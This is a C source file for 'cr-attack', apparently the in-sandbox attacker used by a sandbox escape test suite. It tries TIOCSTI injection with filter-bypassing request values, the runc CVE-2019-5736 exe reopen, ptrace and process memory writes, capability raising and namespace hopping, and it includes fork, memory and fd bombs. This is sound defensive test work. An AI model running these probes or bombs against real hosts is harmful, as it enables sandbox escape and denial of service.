/* SPDX-License-Identifier: MIT */
/* cr-attack: the attacker the escape tests run inside sandboxes.
 *
 * Each sub-command tries one class of known sandbox escapes (from the
 * bubblewrap, runc, crun and firejail CVE record) and reports, as one line of
 * JSON on stdout, what it tried and what worked. It never stops at the first
 * failure: every attempt is listed, and "wins" lists the attempts that
 * succeeded (an empty list = the sandbox held). The tests assert on it.
 *
 * It is linked statically (libc only): it runs in any sandbox, without the
 * host's /usr, and it is the "static payload" of the seccomp test (a filter
 * installed through LD_PRELOAD or a dynamic-loader trick would miss it).
 *
 *   cr-attack tty                 TIOCSTI on fd 0 (plain and with high bits in
 *                                 the request), TIOCSCTTY to steal fd 0 as
 *                                 controlling tty then TIOCSTI, open /dev/tty
 *   cr-attack exe [PATH...]       open /proc/N/exe of every visible process,
 *                                 and each PATH, for writing (directly and by
 *                                 reopening an O_PATH fd); ptrace ATTACH/SEIZE,
 *                                 /proc/N/mem and process_vm_writev on them
 *   cr-attack fds                 every open fd (fstat) and the cwd
 *   cr-attack status              Cap*, NoNewPrivs, Seccomp of /proc/self/status;
 *                                 tries to raise capabilities (capset, ambient,
 *                                 setuid 0)
 *   cr-attack ns MARKER [ABSTRACT] [SYSVKEY]
 *                                 unshare each namespace, setns to every
 *                                 reachable ns file; look for host processes
 *                                 (cmdline holding MARKER), the abstract unix
 *                                 socket ABSTRACT, SysV IPC objects, interfaces
 *   cr-attack forkbomb MAX        fork (children sleep) until fork fails or MAX
 *   cr-attack membomb MB          allocate and touch MB MiB, 4 MiB at a time
 *   cr-attack fdbomb MAX          open /dev/null until it fails; raise NOFILE
 *   cr-attack flood FD            write to FD forever
 *   cr-attack true                exit 0 (a payload that does nothing)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "file_type.h"

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef CLONE_NEWCGROUP
#define CLONE_NEWCGROUP 0x02000000
#endif
#ifndef PR_CAP_AMBIENT
#define PR_CAP_AMBIENT 47
#define PR_CAP_AMBIENT_RAISE 2
#endif

/* ---- a tiny JSON writer (no library: this program is static) ---------- */

static char out[1 << 20];
static size_t outlen;

static void put(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(out + outlen, sizeof out - outlen, fmt, ap);
  va_end(ap);
  if (n > 0) outlen += (size_t)n < sizeof out - outlen ? (size_t)n : sizeof out - outlen - 1;
}

static void put_str(const char *s) {
  put("\"");
  for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
    if (*p == '"' || *p == '\\')
      put("\\%c", *p);
    else if (*p < 0x20 || *p >= 0x7f)
      put("\\u%04x", *p);
    else
      put("%c", *p);
  }
  put("\"");
}

static void flush_out(void) {
  put("\n");
  size_t off = 0;
  while (off < outlen) {
    ssize_t w = write(1, out + off, outlen - off);
    if (w < 0 && errno == EINTR) continue;
    if (w <= 0) break;
    off += (size_t)w;
  }
  outlen = 0;
}

static const char *ename(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "E?";
}

/* Attempts: {"what": ..., "ok": bool, "error": ...}; successes also go to
 * the "wins" list. */
static char wins[1 << 16];
static size_t winslen;
static bool first_attempt = true;

static void attempt(const char *what, int rc, int err) {
  put("%s{\"what\":", first_attempt ? "" : ",");
  first_attempt = false;
  put_str(what);
  if (rc >= 0) {
    put(",\"ok\":true}");
    int n = snprintf(wins + winslen, sizeof wins - winslen, "%s\"", winslen ? "," : "");
    if (n > 0 && (size_t)n < sizeof wins - winslen) winslen += (size_t)n;
    for (const char *p = what; *p && winslen + 8 < sizeof wins; p++) {
      if (*p == '"' || *p == '\\') wins[winslen++] = '\\';
      wins[winslen++] = (*p >= 0x20 && *p < 0x7f) ? *p : '?';
    }
    if (winslen + 2 < sizeof wins) wins[winslen++] = '"';
    wins[winslen] = '\0';
  } else {
    put(",\"ok\":false,\"error\":\"%s\"}", ename(err));
  }
}

static void begin_attempts(void) {
  put("\"attempts\":[");
  first_attempt = true;
  winslen = 0;
  wins[0] = '\0';
}

static void end_attempts(void) { put("],\"wins\":[%s]", wins); }

static char *slurp(const char *path, size_t *len) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return NULL;
  size_t cap = 1 << 16, n = 0;
  char *buf = malloc(cap + 1);
  if (!buf) {
    close(fd);
    return NULL;
  }
  for (;;) {
    if (n == cap) {
      char *nb = realloc(buf, cap * 2 + 1);
      if (!nb) break;
      buf = nb;
      cap *= 2;
    }
    ssize_t r = read(fd, buf + n, cap - n);
    if (r < 0 && errno == EINTR) continue;
    if (r <= 0) break;
    n += (size_t)r;
  }
  close(fd);
  buf[n] = '\0';
  if (len) *len = n;
  return buf;
}

/* Numeric entries of /proc, without ourselves. */
static int list_pids(int *pids, int max) {
  int n = 0;
  DIR *d = opendir("/proc");
  if (!d) return 0;
  struct dirent *de;
  while ((de = readdir(d)) && n < max) {
    char *end;
    long v = strtol(de->d_name, &end, 10);
    if (!de->d_name[0] || *end || v == getpid()) continue;
    pids[n++] = (int)v;
  }
  closedir(d);
  return n;
}

static void sleep_ms(long ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {}
}

/* ---- tty: terminal injection ------------------------------------------ */

static int cmd_tty(void) {
  char c = '#';
  char what[128];
  put("{\"pid\":%d,\"sid\":%d,\"pgid\":%d,\"isatty0\":%s,", (int)getpid(), (int)getsid(0), (int)getpgid(0),
      isatty(0) ? "true" : "false");
  pid_t ts = tcgetsid(0);
  put("\"tcgetsid0\":%d,", ts < 0 ? -errno : (int)ts);
  begin_attempts();
  int r = ioctl(0, TIOCSTI, &c);
  attempt("ioctl(0, TIOCSTI)", r, errno);
  /* The kernel compares only the low 32 bits of the request: a filter that
   * compares all 64 would let this one through. */
  unsigned long hi = 0xffffffff00000000UL | (unsigned long)TIOCSTI;
  r = (int)syscall(SYS_ioctl, 0, hi, &c);
  attempt("ioctl(0, 0xffffffff00000000|TIOCSTI)", r, errno);
  unsigned long hi2 = 0x0000000100000000UL | (unsigned long)TIOCSTI;
  r = (int)syscall(SYS_ioctl, 0, hi2, &c);
  attempt("ioctl(0, 0x100000000|TIOCSTI)", r, errno);
  /* TIOCSTI needs the tty to be our controlling tty: try to make it so. We
   * lead our session (if not, try setsid first). */
  if (getsid(0) != getpid()) {
    r = setsid();
    attempt("setsid()", r, errno);
  }
  r = ioctl(0, TIOCSCTTY, 0);
  attempt("ioctl(0, TIOCSCTTY, 0)", r, errno);
  r = ioctl(0, TIOCSCTTY, 1);
  attempt("ioctl(0, TIOCSCTTY, 1 /* steal */)", r, errno);
  r = ioctl(0, TIOCSTI, &c);
  snprintf(what, sizeof what, "ioctl(0, TIOCSTI) after TIOCSCTTY");
  attempt(what, r, errno);
  r = (int)syscall(SYS_ioctl, 0, hi, &c);
  attempt("ioctl(0, 0xffffffff00000000|TIOCSTI) after TIOCSCTTY", r, errno);
  int t = open("/dev/tty", O_RDWR | O_CLOEXEC);
  attempt("open(/dev/tty)", t, errno);
  if (t >= 0) {
    r = ioctl(t, TIOCSTI, &c);
    attempt("ioctl(/dev/tty, TIOCSTI)", r, errno);
    close(t);
  }
  /* Any pty of the sandbox's own /dev/pts is the sandbox's: not counted. */
  end_attempts();
  put("}");
  flush_out();
  return 0;
}

/* ---- exe: overwrite or trace the launcher ------------------------------ */

static void try_write_open(const char *path) {
  char what[PATH_MAX + 64];
  static const struct {
    const char *name;
    int flags;
  } modes[] = {
      {"O_WRONLY", O_WRONLY}, {"O_RDWR", O_RDWR}, {"O_WRONLY|O_APPEND", O_WRONLY | O_APPEND}, {NULL, 0}};
  for (int i = 0; modes[i].name; i++) {
    int fd = open(path, modes[i].flags | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s, %s)", path, modes[i].name);
    attempt(what, fd, errno);
    if (fd >= 0) close(fd);
  }
  /* runc CVE-2019-5736: hold an O_PATH fd, reopen it through /proc/self/fd. */
  int pfd = open(path, O_PATH | O_CLOEXEC);
  if (pfd >= 0) {
    char via[64];
    snprintf(via, sizeof via, "/proc/self/fd/%d", pfd);
    int fd = open(via, O_WRONLY | O_CLOEXEC);
    snprintf(what, sizeof what, "reopen O_PATH fd of %s for writing", path);
    attempt(what, fd, errno);
    if (fd >= 0) close(fd);
    close(pfd);
  }
}

static int cmd_exe(int n, char **paths) {
  int pids[4096];
  int np = list_pids(pids, 4096);
  char what[256], path[64];
  put("{\"self\":%d,\"pids\":[", (int)getpid());
  for (int i = 0; i < np; i++) put("%s%d", i ? "," : "", pids[i]);
  put("],\"exe\":{");
  for (int i = 0; i < np; i++) {
    char link[PATH_MAX + 1];
    snprintf(path, sizeof path, "/proc/%d/exe", pids[i]);
    ssize_t r = readlink(path, link, PATH_MAX);
    link[r > 0 ? r : 0] = '\0';
    put("%s\"%d\":", i ? "," : "", pids[i]);
    if (r >= 0)
      put_str(link);
    else
      put("\"%s\"", ename(errno));
  }
  put("},");
  begin_attempts();
  for (int i = 0; i < np; i++) {
    snprintf(path, sizeof path, "/proc/%d/exe", pids[i]);
    try_write_open(path);
    snprintf(path, sizeof path, "/proc/%d/mem", pids[i]);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s, O_RDWR)", path);
    attempt(what, fd, errno);
    if (fd >= 0) close(fd);
    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    ssize_t w = process_vm_writev(pids[i], &local, 1, &remote, 1, 0);
    /* EFAULT means the access check passed (the address is just unmapped). */
    snprintf(what, sizeof what, "process_vm_writev(%d)", pids[i]);
    attempt(what, (w < 0 && errno == EFAULT) ? 0 : (int)w, errno);
    long pr = ptrace(PTRACE_ATTACH, pids[i], 0, 0);
    snprintf(what, sizeof what, "ptrace(PTRACE_ATTACH, %d)", pids[i]);
    attempt(what, (int)pr, errno);
    if (pr == 0) {
      waitpid(pids[i], NULL, __WALL);
      ptrace(PTRACE_DETACH, pids[i], 0, 0);
    }
    pr = ptrace(PTRACE_SEIZE, pids[i], 0, 0);
    snprintf(what, sizeof what, "ptrace(PTRACE_SEIZE, %d)", pids[i]);
    attempt(what, (int)pr, errno);
    if (pr == 0) ptrace(PTRACE_DETACH, pids[i], 0, 0);
  }
  for (int i = 0; i < n; i++) try_write_open(paths[i]);
  end_attempts();
  put("}");
  flush_out();
  return 0;
}

/* ---- fds: the fd table, by identity ------------------------------------ */

static int cmd_fds(void) {
  /* fstat every fd number up to the limit (not a directory listing: that
   * would need an fd of its own). */
  struct rlimit rl;
  getrlimit(RLIMIT_NOFILE, &rl);
  long max = rl.rlim_cur == RLIM_INFINITY || rl.rlim_cur > 65536 ? 65536 : (long)rl.rlim_cur;
  put("{\"fds\":[");
  bool first = true;
  for (long fd = 0; fd < max; fd++) {
    struct stat st;
    if (fstat((int)fd, &st) != 0) continue;
    char link[64], target[PATH_MAX + 1];
    snprintf(link, sizeof link, "/proc/self/fd/%ld", fd);
    ssize_t r = readlink(link, target, PATH_MAX);
    target[r > 0 ? r : 0] = '\0';
    put("%s{\"fd\":%ld,\"dev\":%llu,\"ino\":%llu,\"rdev\":\"%u:%u\",\"type\":\"%s\",\"target\":",
        first ? "" : ",", fd, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, major(st.st_rdev),
        minor(st.st_rdev), file_type_name(st.st_mode));
    put_str(target);
    put("}");
    first = false;
  }
  put("],");
  char cwd[PATH_MAX];
  struct stat dot, named;
  put("\"cwd\":");
  if (getcwd(cwd, sizeof cwd)) {
    put_str(cwd);
    put(",\"cwd_matches\":%s", stat(".", &dot) == 0 && stat(cwd, &named) == 0 && dot.st_dev == named.st_dev &&
                                       dot.st_ino == named.st_ino
                                   ? "true"
                                   : "false");
  } else {
    put("\"%s\"", ename(errno));
  }
  if (stat(".", &dot) == 0)
    put(",\"cwd_dev\":%llu,\"cwd_ino\":%llu", (unsigned long long)dot.st_dev, (unsigned long long)dot.st_ino);
  struct stat root;
  if (stat("/", &root) == 0)
    put(",\"root_dev\":%llu,\"root_ino\":%llu", (unsigned long long)root.st_dev,
        (unsigned long long)root.st_ino);
  put("}");
  flush_out();
  return 0;
}

/* ---- status: capabilities, no_new_privs, seccomp ----------------------- */

static int cmd_status(void) {
  static const char *keys[] = {"CapInh",     "CapPrm",  "CapEff",          "CapBnd", "CapAmb",
                               "NoNewPrivs", "Seccomp", "Seccomp_filters", "Uid",    NULL};
  char *txt = slurp("/proc/self/status", NULL);
  put("{\"status\":{");
  bool first = true;
  if (txt) {
    char *save = NULL;
    for (char *line = strtok_r(txt, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
      char *colon = strchr(line, ':');
      if (!colon) continue;
      *colon = '\0';
      char *val = colon + 1;
      while (*val == ' ' || *val == '\t') val++;
      for (int i = 0; keys[i]; i++)
        if (strcmp(keys[i], line) == 0) {
          put("%s\"%s\":", first ? "" : ",", line);
          put_str(val);
          first = false;
        }
    }
    free(txt);
  }
  put("},\"no_new_privs\":%d,\"dumpable\":%d,", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
      prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
  begin_attempts();
  /* Raise every capability in the permitted and effective sets. */
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  memset(d, 0xff, sizeof d);
  int r = (int)syscall(SYS_capset, &h, d);
  attempt("capset(all)", r, errno);
  memset(d, 0, sizeof d);
  d[0].inheritable = d[1].inheritable = 0xffffffffu;
  r = (int)syscall(SYS_capset, &h, d);
  attempt("capset(inheritable all)", r, errno);
  int amb = 0;
  for (int cap = 0; cap <= 63; cap++)
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0) == 0) amb++;
  attempt("prctl(PR_CAP_AMBIENT_RAISE, any)", amb ? 0 : -1, EPERM);
  r = setuid(0);
  attempt("setuid(0)", r, errno);
  r = prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
  attempt("prctl(PR_SET_NO_NEW_PRIVS, 0)", r, errno);
  r = prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
  (void)r; /* allowed for oneself; not an escape */
  end_attempts();
  put(",\"bounding\":[");
  bool f = true;
  for (int cap = 0; cap <= 63; cap++)
    if (prctl(PR_CAPBSET_READ, cap, 0, 0, 0) == 1) {
      put("%s%d", f ? "" : ",", cap);
      f = false;
    }
  put("]}");
  flush_out();
  return 0;
}

/* ---- ns: namespaces ----------------------------------------------------- */

static int cmd_ns(const char *marker, const char *abstract, const char *sysvkey) {
  static const struct {
    const char *name;
    int flag;
  } flags[] = {
      {"CLONE_NEWUSER", CLONE_NEWUSER},     {"CLONE_NEWNS", CLONE_NEWNS},     {"CLONE_NEWPID", CLONE_NEWPID},
      {"CLONE_NEWNET", CLONE_NEWNET},       {"CLONE_NEWUTS", CLONE_NEWUTS},   {"CLONE_NEWIPC", CLONE_NEWIPC},
      {"CLONE_NEWCGROUP", CLONE_NEWCGROUP}, {"CLONE_NEWTIME", CLONE_NEWTIME}, {NULL, 0}};
  char what[PATH_MAX + 64];
  put("{");
  begin_attempts();
  for (int i = 0; flags[i].name; i++) {
    /* In a child: a successful unshare must not change what we probe next. */
    pid_t c = fork();
    if (c == 0) _exit(unshare(flags[i].flag) == 0 ? 0 : (errno & 0xff));
    int st = 0;
    if (c > 0) waitpid(c, &st, 0);
    int rc = c > 0 && WIFEXITED(st) ? WEXITSTATUS(st) : 255;
    snprintf(what, sizeof what, "unshare(%s)", flags[i].name);
    attempt(what, rc == 0 ? 0 : -1, rc);
  }
  {
    pid_t c = fork();
    if (c == 0) {
      long r = syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | SIGCHLD), 0, 0, 0, 0);
      if (r == 0) _exit(0);
      if (r > 0) {
        waitpid((pid_t)r, NULL, 0);
        _exit(0);
      }
      _exit(errno & 0xff);
    }
    int st = 0;
    if (c > 0) waitpid(c, &st, 0);
    int rc = c > 0 && WIFEXITED(st) ? WEXITSTATUS(st) : 255;
    attempt("clone(CLONE_NEWUSER)", rc == 0 ? 0 : -1, rc);
  }
  /* setns to every ns file of every visible process. */
  int pids[4096];
  int np = list_pids(pids, 4095);
  pids[np++] = getpid();
  static const char *nsn[] = {
      "user", "mnt", "pid", "net", "uts", "ipc", "cgroup", "time", "pid_for_children", "time_for_children",
      NULL};
  for (int i = 0; i < np; i++)
    for (int k = 0; nsn[k]; k++) {
      char p[96];
      snprintf(p, sizeof p, "/proc/%d/ns/%s", pids[i], nsn[k]);
      int fd = open(p, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      pid_t c = fork();
      if (c == 0) _exit(setns(fd, 0) == 0 ? 0 : (errno & 0xff));
      int st = 0;
      if (c > 0) waitpid(c, &st, 0);
      int rc = c > 0 && WIFEXITED(st) ? WEXITSTATUS(st) : 255;
      snprintf(what, sizeof what, "setns(%s)", p);
      attempt(what, rc == 0 ? 0 : -1, rc);
      close(fd);
    }
  /* Host processes: kill(pid, 0) on every pid the host might have, cmdline. */
  int hits = 0;
  for (int i = 0; i < np; i++) {
    if (pids[i] == getpid()) continue;
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pids[i]);
    size_t len = 0;
    char *cl = slurp(p, &len);
    if (cl) {
      for (size_t j = 0; j < len; j++)
        if (!cl[j]) cl[j] = ' ';
      if (marker[0] && strstr(cl, marker)) hits++;
      free(cl);
    }
  }
  attempt("see a host process by its cmdline", hits ? 0 : -1, ENOENT);
  /* Abstract unix sockets: listed in /proc/net/unix, or connectable. */
  if (abstract && abstract[0]) {
    char *nu = slurp("/proc/net/unix", NULL);
    attempt("find the host's abstract socket in /proc/net/unix", nu && strstr(nu, abstract + 1) ? 0 : -1,
            ENOENT);
    free(nu);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa;
    memset(&sa, 0, sizeof sa);
    sa.sun_family = AF_UNIX;
    size_t len = strlen(abstract);
    if (len >= sizeof sa.sun_path) len = sizeof sa.sun_path - 1;
    memcpy(sa.sun_path, abstract, len);
    sa.sun_path[0] = '\0';
    int r = connect(s, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len));
    attempt("connect to the host's abstract socket", r, errno);
    close(s);
  }
  /* SysV IPC: the host made a shm segment, a message queue and a semaphore set with this key. */
  if (sysvkey && sysvkey[0]) {
    key_t key = (key_t)strtol(sysvkey, NULL, 0);
    int r = shmget(key, 0, 0);
    attempt("shmget(host key)", r, errno);
    r = msgget(key, 0);
    attempt("msgget(host key)", r, errno);
    r = semget(key, 0, 0);
    attempt("semget(host key)", r, errno);
    static const char *lists[] = {"/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem", NULL};
    for (int i = 0; lists[i]; i++) {
      char *l = slurp(lists[i], NULL);
      int lines = 0;
      for (char *p = l; p && *p; p++)
        if (*p == '\n') lines++;
      snprintf(what, sizeof what, "list objects in %s", lists[i]);
      attempt(what, lines > 1 ? 0 : -1, ENOENT);
      free(l);
    }
  }
  end_attempts();
  put(",\"interfaces\":[");
  struct if_nameindex *ifs = if_nameindex();
  for (struct if_nameindex *i = ifs; i && i->if_index; i++) {
    put("%s", i == ifs ? "" : ",");
    put_str(i->if_name);
  }
  if (ifs) if_freenameindex(ifs);
  /* The same through /proc/net/dev (no socket needed: works under "strict"). */
  put("],\"netdev\":[");
  char *nd = slurp("/proc/net/dev", NULL);
  int line = 0;
  bool firstdev = true;
  for (char *save = NULL, *l = nd ? strtok_r(nd, "\n", &save) : NULL; l; l = strtok_r(NULL, "\n", &save)) {
    if (line++ < 2) continue;
    while (*l == ' ') l++;
    char *colon = strchr(l, ':');
    if (!colon) continue;
    *colon = '\0';
    put("%s", firstdev ? "" : ",");
    put_str(l);
    firstdev = false;
  }
  free(nd);
  put("]}");
  flush_out();
  return 0;
}

/* ---- resource exhaustion ----------------------------------------------- */

static int cmd_forkbomb(long max) {
  long n = 0;
  int e = 0;
  for (; n < max; n++) {
    pid_t c = fork();
    if (c < 0) {
      e = errno;
      break;
    }
    if (c == 0) {
      for (;;) pause();
    }
  }
  put("{\"forks\":%ld,\"error\":\"%s\"}", n, e ? ename(e) : "");
  flush_out();
  /* Leave the children behind: the sandbox must take them down. */
  return 0;
}

static int cmd_membomb(long mb) {
  long got = 0;
  for (; got < mb; got += 4) {
    char *p = malloc(4 << 20);
    if (!p) break;
    memset(p, 0xa5, 4 << 20);
    if (got % 16 == 0) {
      put("{\"mb\":%ld}", got);
      flush_out();
    }
  }
  put("{\"mb\":%ld,\"done\":%s}", got, got >= mb ? "true" : "false");
  flush_out();
  return 0;
}

static int cmd_fdbomb(long max) {
  long n = 0;
  int e = 0;
  for (; n < max; n++) {
    if (open("/dev/null", O_RDONLY) < 0) {
      e = errno;
      break;
    }
  }
  struct rlimit rl;
  getrlimit(RLIMIT_NOFILE, &rl);
  struct rlimit more = {rl.rlim_max + 1000, rl.rlim_max + 1000};
  int r = setrlimit(RLIMIT_NOFILE, &more);
  put("{\"opened\":%ld,\"error\":\"%s\",\"nofile\":[%llu,%llu],\"raise\":%s}", n, e ? ename(e) : "",
      (unsigned long long)rl.rlim_cur, (unsigned long long)rl.rlim_max, r == 0 ? "true" : "false");
  flush_out();
  return 0;
}

static __attribute__((noreturn)) void cmd_flood(int fd) {
  static char buf[65536];
  memset(buf, 'x', sizeof buf);
  signal(SIGPIPE, SIG_IGN);
  for (;;) {
    if (write(fd, buf, sizeof buf) < 0 && errno != EINTR && errno != EAGAIN) sleep_ms(10);
  }
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fputs("usage: cr-attack tty|exe|fds|status|ns|forkbomb|membomb|fdbomb|flood|true ...\n", stderr);
    return 2;
  }
  const char *c = argv[1];
  if (!strcmp(c, "tty")) return cmd_tty();
  if (!strcmp(c, "exe")) return cmd_exe(argc - 2, argv + 2);
  if (!strcmp(c, "fds")) return cmd_fds();
  if (!strcmp(c, "status")) return cmd_status();
  if (!strcmp(c, "ns"))
    return cmd_ns(argc > 2 ? argv[2] : "", argc > 3 ? argv[3] : "", argc > 4 ? argv[4] : "");
  if (!strcmp(c, "forkbomb")) return cmd_forkbomb(argc > 2 ? atol(argv[2]) : 100000);
  if (!strcmp(c, "membomb")) return cmd_membomb(argc > 2 ? atol(argv[2]) : 1024);
  if (!strcmp(c, "fdbomb")) return cmd_fdbomb(argc > 2 ? atol(argv[2]) : 1000000);
  if (!strcmp(c, "flood")) cmd_flood(argc > 2 ? atoi(argv[2]) : 1);
  if (!strcmp(c, "true")) return 0;
  fprintf(stderr, "cr-attack: unknown sub-command %s\n", c);
  return 2;
}
